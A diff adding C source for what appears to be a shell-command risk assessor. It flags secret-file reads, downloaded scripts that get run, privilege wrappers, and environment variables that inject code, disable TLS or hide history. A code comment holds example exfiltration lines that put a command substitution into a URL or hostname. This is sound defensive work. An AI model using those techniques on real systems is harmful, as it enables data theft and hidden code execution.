@@ -1,0 +1,502 @@
+/* SPDX-License-Identifier: MIT */
+/* local_command: one command: what the tables say of it, and where its files are. */
+#include "config.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "base/alloc.h"
+#include "base/strbuf.h"
+#include "command/environment.h"
+#include "command/wrapper.h"
+#include "risk/local-int.h"
+#include "risk/place.h"
+
+#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
+
+static const struct shell_word *word_at(const struct view *view, size_t index)
+{
+    return &view->node->words[view->first + index];
+}
+
+static void note_word(const struct assessor *assessor, const struct view *view, size_t index,
+                      enum risk_level level, unsigned categories, enum phrase phrase)
+{
+    const struct shell_word *word = word_at(view, index);
+    local_note(assessor, (struct finding){level, categories, phrase, word->start, word->end,
+                                          view->words[index]});
+}
+
+/* ---- operands -------------------------------------------------------------------------------- */
+
+static bool is_secret_to_read(const struct assessor *assessor, const char *path)
+{
+    cleanup_free char *joined = NULL;
+    if (assessor->known->directory != NULL && *path != '/' && *path != '~')
+        path = joined = xasprintf("%s/%s", assessor->known->directory, path);
+    return place_is_secret(path);
+}
+
+static void read_operand(const struct assessor *assessor, const struct view *view, size_t index)
+{
+    if (is_secret_to_read(assessor, view->words[index]))
+        note_word(assessor, view, index, RISK_HIGH, RISK_DATA_EXFILTRATION, PHRASE_reads_secrets);
+}
+
+static void write_operand(const struct assessor *assessor, const struct view *view, size_t index)
+{
+    const struct shell_word *word = word_at(view, index);
+    local_note_written(assessor, view->words[index], word->start, word->end);
+}
+
+/* cp, mv, ln: a secret of the workspace may be moved about in it. */
+static void move_operand(const struct assessor *assessor, const struct view *view, size_t index)
+{
+    const char *path = view->words[index];
+    bool moves = strcmp(wrapper_basename(view->words[0]), "mv") == 0;
+    enum place place = place_of(path, assessor->cwd, assessor->roots);
+    if (place != PLACE_WORKSPACE)
+        read_operand(assessor, view, index);
+    if (moves && place >= PLACE_CODE)
+        write_operand(assessor, view, index);
+}
+
+static void judge_operands(const struct assessor *assessor, const struct view *view,
+                           const struct effect_reading *reading, enum effect_place place)
+{
+    for (size_t i = 0; i < reading->operand_count; i++) {
+        bool last = i + 1 == reading->operand_count;
+        size_t index = reading->operands[i];
+        if (place == EFFECT_READS)
+            read_operand(assessor, view, index);
+        else if (place == EFFECT_WRITES || (place == EFFECT_MOVES && last))
+            write_operand(assessor, view, index);
+        else if (place == EFFECT_MOVES)
+            move_operand(assessor, view, index);
+    }
+}
+
+static void judge_files(const struct assessor *assessor, const struct view *view,
+                        const struct effect_reading *reading)
+{
+    for (size_t i = 0; i < reading->file_count; i++) {
+        const struct effect_file *file = &reading->files[i];
+        const struct shell_word *word = word_at(view, file->word);
+        if (strcmp(file->path, "-") == 0)
+            continue;
+        if (file->output)
+            local_note_written(assessor, file->path, word->start, word->end);
+        else if (is_secret_to_read(assessor, file->path))
+            note_word(assessor, view, file->word, RISK_HIGH, RISK_DATA_EXFILTRATION,
+                      PHRASE_reads_secrets);
+    }
+}
+
+/* What is deleted, where it matters more than elsewhere. */
+static void judge_deleted(const struct assessor *assessor, const struct view *view,
+                          const struct effect_reading *reading)
+{
+    for (size_t i = 0; i < reading->operand_count; i++) {
+        enum place place =
+            place_of(view->words[reading->operands[i]], assessor->cwd, assessor->roots);
+        if (place > PLACE_OUTSIDE)
+            write_operand(assessor, view, reading->operands[i]);
+    }
+}
+
+/* ---- addresses ------------------------------------------------------------------------------- */
+
+static bool all_on_this_machine(const struct view *view, const struct effect_reading *reading)
+{
+    for (size_t i = 0; i < reading->operand_count; i++)
+        if (!place_is_this_machine(view->words[reading->operands[i]]))
+            return false;
+    return reading->operand_count > 0;
+}
+
+/* Programs whose output is worth hiding in the name of a host or in an address. */
+static bool is_telling(const char *name)
+{
+    static const char *const names[] = {
+        "cat",     "env", "printenv", "base64",  "whoami", "hostname", "id",  "head",
+        "tail",    "xxd", "tar",      "gzip",    "grep",   "awk",      "sed", "od",
+        "openssl", "ls",  "find",     "history", "pass",   "gpg"};
+    for (size_t i = 0; i < COUNT(names); i++)
+        if (strcmp(names[i], name) == 0)
+            return true;
+    return false;
+}
+
+/* curl "https://x/?d=$(cat file)", ping $(hostname).x */
+static void judge_addresses(const struct assessor *assessor, const struct view *view)
+{
+    const struct shell_tree *tree = assessor->tree;
+    for (size_t i = 1; i < view->count; i++) {
+        const struct shell_word *word = word_at(view, i);
+        if (word->literal)
+            continue;
+        for (size_t j = 0; j < tree->count; j++) {
+            const struct shell_node *node = &tree->nodes[j];
+            if (node->start >= word->start && node->end <= word->end && node != view->node &&
+                node->word_count > 0 && is_telling(wrapper_basename(node->words[0].text)))
+                note_word(assessor, view, i, RISK_HIGH,
+                          RISK_NETWORK_ACCESS | RISK_DATA_EXFILTRATION, PHRASE_sends);
+        }
+    }
+}
+
+/* ---- what is downloaded and run later -------------------------------------------------------- */
+
+static const char *without_dot(const char *path)
+{
+    return strncmp(path, "./", 2) == 0 ? path + 2 : path;
+}
+
+static void remember_download(const struct assessor *assessor, const char *path)
+{
+    struct knowledge *known = assessor->known;
+    if (known->download_count < LOCAL_DOWNLOADS_MAX && *path != '\0')
+        known->downloads[known->download_count++] = xstrdup(without_dot(path));
+}
+
+static bool is_downloaded(const struct assessor *assessor, const char *path)
+{
+    const struct knowledge *known = assessor->known;
+    for (size_t i = 0; i < known->download_count; i++)
+        if (strcmp(known->downloads[i], without_dot(path)) == 0)
+            return true;
+    return false;
+}
+
+/* Where a program that fetches leaves what it fetches. */
+static void remember_downloads(const struct assessor *assessor, const struct view *view,
+                               const struct effect_reading *reading)
+{
+    for (size_t i = 0; i < reading->file_count; i++)
+        if (reading->files[i].output)
+            remember_download(assessor, reading->files[i].path);
+    for (size_t i = 0; i < view->node->redirect_count; i++)
+        if (view->node->redirects[i].kind == SHELL_TO)
+            remember_download(assessor, view->node->redirects[i].target.text);
+    for (size_t i = 0; i < reading->operand_count; i++) {
+        const char *address = view->words[reading->operands[i]];
+        if (strstr(address, "://") != NULL)
+            remember_download(assessor, wrapper_basename(address));
+    }
+}
+
+static bool runs_download(const struct assessor *assessor, const struct view *view)
+{
+    static const char *const runners[] = {"sh",      "bash", "zsh",  "dash", "python",
+                                          "python3", "node", "perl", "ruby", "php",
+                                          "source",  ".",    "java"};
+    if (assessor->known->download_count == 0)
+        return false;
+    if (is_downloaded(assessor, view->words[0]))
+        return true;
+    const char *name = wrapper_basename(view->words[0]);
+    for (size_t i = 0; i < COUNT(runners); i++)
+        if (strcmp(runners[i], name) == 0)
+            for (size_t j = 1; j < view->count; j++)
+                if (is_downloaded(assessor, view->words[j]))
+                    return true;
+    return false;
+}
+
+/* ---- programs -------------------------------------------------------------------------------- */
+
+static bool is_interpreter(const char *name)
+{
+    static const char *const names[] = {"sh",  "bash", "zsh",  "python", "python3", "node",
+                                        "npx", "perl", "ruby", "php",    "xargs",   "java"};
+    for (size_t i = 0; i < COUNT(names); i++)
+        if (strcmp(names[i], name) == 0)
+            return true;
+    return false;
+}
+
+static bool only_asks_for_help(const struct view *view)
+{
+    static const char *const words[] = {"--version", "-V", "--help", "help", "-version", "--usage"};
+    const char *last = view->words[view->count - 1];
+    if (strchr(view->words[0], '/') != NULL && strncmp(view->words[0], "/usr/", 5) != 0)
+        return false;
+    if (view->count > 2) {
+        for (size_t i = 1; i < view->count; i++)
+            if (strcmp(view->words[i], "--") == 0 || strcmp(view->words[i], "run") == 0)
+                return false;
+        bool asks = strcmp(last, "--help") == 0 || strcmp(last, "-help") == 0 ||
+                    (strcmp(last, "help") == 0 && strcmp(view->words[0], "aws") == 0);
+        return asks && !is_interpreter(view->words[0]) && effects_knows(view->words[0]);
+    }
+    for (size_t i = 0; i < COUNT(words) && view->count == 2; i++)
+        if (strcmp(last, words[i]) == 0)
+            return true;
+    return false;
+}
+
+/* A path that is not one of the system's own programs: whoever wrote the file chose what runs. */
+static bool is_own_program(const char *path)
+{
+    static const char *const places[] = {"/bin/", "/usr/", "/sbin/", "/opt/"};
+    if (strchr(path, '/') == NULL)
+        return false;
+    for (size_t i = 0; i < COUNT(places); i++)
+        if (strncmp(path, places[i], strlen(places[i])) == 0)
+            return false;
+    return true;
+}
+
+/* Up to three operands behind the subcommand, as what it is done to. */
+static const char *objects_of(const struct assessor *assessor, const struct view *view,
+                              const struct effect_reading *reading, const struct effect *effect)
+{
+    struct strbuf text = STRBUF_INIT;
+    size_t depth = 0;
+    for (const char *at = effect->path; *at != '\0'; at += strspn(at, " ")) {
+        depth += *at != '*' || at[1] != '*';
+        at += strcspn(at, " ");
+    }
+    for (size_t i = depth; i < reading->operand_count && i < depth + 3; i++)
+        strbuf_addf(&text, "%s%s", i > depth ? ", " : "", view->words[reading->operands[i]]);
+    if (reading->operand_count > depth + 3)
+        strbuf_addstr(&text, " …");
+    return text.length > 0 ? local_keep(assessor, strbuf_steal(&text)) : NULL;
+}
+
+static void note_effect(const struct assessor *assessor, const struct view *view,
+                        const struct effect_reading *reading, const struct effect *effect)
+{
+    enum risk_level level = (enum risk_level)effect->kind;
+    unsigned categories = effect->categories;
+    if (effect->place == EFFECT_CONNECTS && all_on_this_machine(view, reading)) {
+        bool deletes = (categories & RISK_DATA_DELETION) != 0; /* here as elsewhere */
+        bool changes = level == RISK_HIGH || effect->phrase == PHRASE_posts;
+        level = deletes ? RISK_HIGH : changes ? RISK_MEDIUM : RISK_LOW;
+        categories &= RISK_DATA_DELETION;
+    }
+    const struct shell_word *words = view->node->words;
+    local_note(
+        assessor,
+        (struct finding){level, categories, effect->phrase, words[view->first].start,
+                         words[view->first + view->count - 1].end,
+                         level > RISK_LOW ? objects_of(assessor, view, reading, effect) : NULL});
+    if ((effect->categories & RISK_NETWORK_ACCESS) != 0)
+        judge_addresses(assessor, view);
+    if (effect->phrase == PHRASE_fetches || effect->phrase == PHRASE_cloud_copy)
+        remember_downloads(assessor, view, reading);
+    if ((effect->categories & RISK_DATA_DELETION) != 0)
+        judge_deleted(assessor, view, reading);
+}
+
+static void note_unknown(const struct assessor *assessor, const struct view *view)
+{
+    bool own = is_own_program(view->words[0]);
+    local_note_view(assessor, view, RISK_MEDIUM, 0, own ? PHRASE_own_source : PHRASE_unknown);
+}
+
+static void judge_found(const struct assessor *assessor, const struct view *view,
+                        const struct effect_reading *reading)
+{
+    struct effects_found found;
+    enum effect_place place = EFFECT_NOWHERE;
+    effects_find(reading, &found);
+    for (size_t i = 0; i < found.count; i++) {
+        note_effect(assessor, view, reading, found.effects[i]);
+        if (found.effects[i]->place != EFFECT_NOWHERE)
+            place = found.effects[i]->place;
+    }
+    if (found.count == 0)
+        note_unknown(assessor, view);
+    else if (is_own_program(view->words[0]))
+        local_note_view(assessor, view, RISK_MEDIUM, 0, PHRASE_own_source);
+    judge_operands(assessor, view, reading, place);
+    judge_files(assessor, view, reading);
+}
+
+void local_assess_program(const struct assessor *assessor, const struct view *view)
+{
+    struct effect_reading reading;
+    if (runs_download(assessor, view))
+        local_note_view(assessor, view, RISK_HIGH, 0, PHRASE_runs_downloaded);
+    effects_read(view->words, view->count, &reading);
+    if (!local_assess_special(assessor, view, &reading))
+        judge_found(assessor, view, &reading);
+    effects_clear(&reading);
+}
+
+/* ---- variables in front ---------------------------------------------------------------------- */
+
+/* NAME=VALUE that makes programs run other code (HIGH), or that switches a protection off. */
+static const struct {
+    const char *pattern;
+    unsigned categories;
+    enum phrase phrase;
+} variables[] = {
+    {"LD_*", 0, PHRASE_loader_variable},
+    {"DYLD_*", 0, PHRASE_loader_variable},
+    {"GCONV_PATH=*", 0, PHRASE_loader_variable},
+    {"BASH_*", 0, PHRASE_loader_variable},
+    {"ENV=*", 0, PHRASE_loader_variable},
+    {"SHELLOPTS=*", 0, PHRASE_loader_variable},
+    {"PROMPT_COMMAND=*", 0, PHRASE_loader_variable},
+    {"GIT_SSH*", 0, PHRASE_loader_variable},
+    {"GIT_CONFIG*", 0, PHRASE_loader_variable},
+    {"GIT_EXEC_PATH=*", 0, PHRASE_loader_variable},
+    {"GIT_EXTERNAL_DIFF=*", 0, PHRASE_loader_variable},
+    {"GIT_PROXY_COMMAND=*", 0, PHRASE_loader_variable},
+    {"GIT_ASKPASS=*", 0, PHRASE_loader_variable},
+    {"SSH_ASKPASS=*", 0, PHRASE_loader_variable},
+    {"GIT_DIR=/*", 0, PHRASE_loader_variable},
+    {"PYTHONSTARTUP=*", 0, PHRASE_loader_variable},
+    {"PYTHONHOME=*", 0, PHRASE_loader_variable},
+    {"PERL5*", 0, PHRASE_loader_variable},
+    {"RUBYOPT=*", 0, PHRASE_loader_variable},
+    {"RUBYLIB=*", 0, PHRASE_loader_variable},
+    {"NODE_OPTIONS=*require*", 0, PHRASE_loader_variable},
+    {"NODE_OPTIONS=*-r*", 0, PHRASE_loader_variable},
+    {"NODE_OPTIONS=*import*", 0, PHRASE_loader_variable},
+    {"NODE_OPTIONS=*loader*", 0, PHRASE_loader_variable},
+    {"JAVA_TOOL_OPTIONS=*", 0, PHRASE_loader_variable},
+    {"RUSTC_WRAPPER=*", 0, PHRASE_loader_variable},
+    {"RIPGREP_CONFIG_PATH=*", 0, PHRASE_loader_variable},
+    {"LESSOPEN=*", 0, PHRASE_loader_variable},
+    {"MANPAGER=*", 0, PHRASE_loader_variable},
+    {"PATH=/tmp*", 0, PHRASE_loader_variable},
+    {"PATH=.*", 0, PHRASE_loader_variable},
+    {"*PAGER=* *", 0, PHRASE_loader_variable},
+    {"*PAGER=*/*", 0, PHRASE_loader_variable},
+    {"*EDITOR=* -c*", 0, PHRASE_loader_variable},
+    {"*EDITOR=./*", 0, PHRASE_loader_variable},
+    {"*EDITOR=/tmp/*", 0, PHRASE_loader_variable},
+    {"NODE_TLS_REJECT_UNAUTHORIZED=0", RISK_COMPLIANCE, PHRASE_security_off},
+    {"GIT_SSL_NO_VERIFY=*", RISK_COMPLIANCE, PHRASE_security_off},
+    {"PYTHONHTTPSVERIFY=0", RISK_COMPLIANCE, PHRASE_security_off},
+    {"npm_config_strict_ssl=false", RISK_COMPLIANCE, PHRASE_security_off},
+    {"npm_config_registry=*", RISK_SYSTEM_MODIFICATION, PHRASE_supply_chain},
+    {"PIP_INDEX_URL=*", RISK_SYSTEM_MODIFICATION, PHRASE_supply_chain},
+    {"PIP_EXTRA_INDEX_URL=*", RISK_SYSTEM_MODIFICATION, PHRASE_supply_chain},
+    {"GOPROXY=http*", RISK_SYSTEM_MODIFICATION, PHRASE_supply_chain},
+    {"GOFLAGS=*exec*", 0, PHRASE_loader_variable},
+    {"GONOSUMCHECK=*", RISK_COMPLIANCE, PHRASE_security_off},
+    {"GONOSUMDB=*", RISK_COMPLIANCE, PHRASE_security_off},
+    {"GOSUMDB=off", RISK_COMPLIANCE, PHRASE_security_off},
+    {"HISTFILE=*", RISK_COMPLIANCE, PHRASE_hides_traces},
+    {"HISTSIZE=0", RISK_COMPLIANCE, PHRASE_hides_traces},
+    {"HISTCONTROL=*", RISK_COMPLIANCE, PHRASE_hides_traces},
+};
+
+void local_assess_assignment(const struct assessor *assessor, const char *assignment,
+                             const struct shell_word *word)
+{
+    if (strchr(assignment, '=') == NULL || environment_is_harmless(assignment))
+        return;
+    for (size_t i = 0; i < COUNT(variables); i++)
+        if (effects_fits(variables[i].pattern, strlen(variables[i].pattern), assignment)) {
+            local_note(assessor,
+                       (struct finding){RISK_HIGH, variables[i].categories, variables[i].phrase,
+                                        word->start, word->end, assignment});
+            return;
+        }
+}
+
+/* ---- the words of a node --------------------------------------------------------------------- */
+
+/* Is the name of the program only known when it runs? */
+static bool name_is_open(const struct shell_word *word, const char *resolved)
+{
+    if (strcmp(resolved, "[") == 0)
+        return false;
+    return !word->literal && (word->glob || strpbrk(resolved, "$`{*?") != NULL ||
+                              *resolved == '\0' || strncmp(word->text, "<(", 2) == 0);
+}
+
+static void assess_view(const struct assessor *assessor, const struct view *view)
+{
+    if (only_asks_for_help(view)) {
+        local_note_view(assessor, view, RISK_LOW, 0, PHRASE_reads);
+        return;
+    }
+    bool downloads = assessor->downloads[view->node - assessor->tree->nodes];
+    if (downloads)
+        local_note_view(assessor, view, RISK_HIGH, 0, PHRASE_runs_downloaded);
+    bool done = local_assess_inner(assessor, view);
+    if (!done)
+        local_assess_program(assessor, view);
+}
+
+static void assess_node_view(const struct assessor *assessor, const struct view *view)
+{
+    local_read_wrapped(assessor, view);
+    assess_view(assessor, view);
+}
+
+void local_assess_rest(const struct assessor *assessor, const struct view *view, size_t at,
+                       bool remote)
+{
+    struct assessor inner = *assessor;
+    struct view rest = *view;
+    size_t skipped;
+    if (at >= view->count)
+        return;
+    inner.remote = inner.remote || remote;
+    if (wrapper_raises(view->words + at, view->count - at))
+        local_note_view(&inner, view, RISK_HIGH, RISK_PRIVILEGE_ESCALATION, PHRASE_raises);
+    skipped = at + wrapper_skip(view->words + at, view->count - at);
+    rest.first += skipped;
+    rest.words += skipped;
+    rest.count -= skipped;
+    if (rest.count > 0)
+        assess_view(&inner, &rest);
+}
+
+static const char **resolve_words(const struct assessor *assessor, const struct shell_node *node)
+{
+    const char **words = shell_tree_argv(node);
+    bool open;
+    for (size_t i = 0; i < node->word_count; i++)
+        words[i] = local_resolve(assessor, &node->words[i], &open);
+    return words;
+}
+
+/* A word of a wrapper: an assignment, or the name of one that gives other rights. */
+static void assess_skipped(const struct assessor *assessor, const struct view *view,
+                           const char *text, const struct shell_word *word)
+{
+    static const char *const names[] = {"chroot", "unshare", "nsenter", "systemd-run", "setpriv"};
+    const char *name = wrapper_basename(text);
+    local_assess_assignment(assessor, text, word);
+    for (size_t i = 0; i < COUNT(names); i++)
+        if (strcmp(names[i], name) == 0)
+            local_note(assessor,
+                       (struct finding){RISK_HIGH, RISK_PRIVILEGE_ESCALATION, PHRASE_other_rights,
+                                        word->start, view->node->end, NULL});
+}
+
+void local_assess_words(const struct assessor *assessor, const struct shell_node *node)
+{
+    const struct shell_word *name = &node->words[0];
+    if (!name->literal && strpbrk(name->text, "$`{") != NULL && local_read_expanded(assessor, node))
+        return;
+    const char **words = resolve_words(assessor, node);
+    struct view view = {.node = node, .words = words, .count = node->word_count};
+    if (view.count == 2 && only_asks_for_help(&view)) {
+        local_note_view(assessor, &view, RISK_LOW, 0, PHRASE_reads);
+        free(words);
+        return;
+    }
+    if (wrapper_raises(words, node->word_count))
+        local_note_view(assessor, &view, RISK_HIGH, RISK_PRIVILEGE_ESCALATION, PHRASE_raises);
+    view.first = wrapper_skip(words, node->word_count);
+    for (size_t i = 0; i < view.first; i++)
+        assess_skipped(assessor, &view, words[i], &node->words[i]);
+    if (view.first == node->word_count) /* nothing is run: env, or sudo -v */
+        view.first = 0;
+    view.words = words + view.first;
+    view.count = node->word_count - view.first;
+    if (name_is_open(&node->words[view.first], view.words[0]))
+        local_note_view(assessor, &view, RISK_HIGH, 0, PHRASE_computed_name);
+    else
+        assess_node_view(assessor, &view);
+    free(words);
+}
